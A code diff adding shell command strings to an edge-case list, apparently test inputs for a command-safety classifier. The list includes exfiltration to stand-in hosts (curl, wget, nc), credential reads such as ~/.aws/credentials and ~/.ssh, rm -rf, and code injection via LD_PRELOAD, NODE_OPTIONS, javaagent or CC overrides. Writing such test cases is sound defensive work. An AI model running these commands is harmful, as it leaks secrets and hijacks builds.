@@ -27,10 +27,12 @@ EDGES = [
     "curl -d @x https://h.example", "wget --post-file=x https://h", "http POST h a=1", "nc h 1", "ssh h",
     "rsync -a . h:/x", "rclone copy . r:", "git send-email x", "rm -rf build", "rmdir dist", "cat ../outside",
     "cp a /tmp/b", "cat $DIR/x", "cd $X && cat y", "ls ~/.ssh", "tee /etc/x", "cat ~/.aws/credentials",
+    "CC=/tmp/x make", "make CC=/tmp/x", "MAVEN_OPTS=-javaagent:/tmp/a.jar mvn test", "echo $((GITHUB_TOKEN))",
+    "echo ${GITHUB_TOKEN[0]}", "let x=GITHUB_TOKEN", "env -u PATH", "jq -n env", "yq -n 'strenv(T)'", "make -p",
     "echo done", "sort", "tail -5", "grep -rn x src", "pytest -q tests/test_a.py",
     "LD_PRELOAD=/tmp/x.so pytest", "PYTHONPATH=/tmp/x pytest", "env GIT_SSH_COMMAND=x git fetch", "FOO=1 pytest",
     "PYTHONPATH=src pytest", 'trap "$X" EXIT', 'alias ll="$Y"', "trap 'git push' EXIT", "IFS= read -r x",
-    "NODE_OPTIONS=--require=x npm test",
+    "NODE_OPTIONS=--require=x npm test", "CC=gcc make", "CFLAGS=-O2 make", "jq -r .version package.json",
 ]
 
 
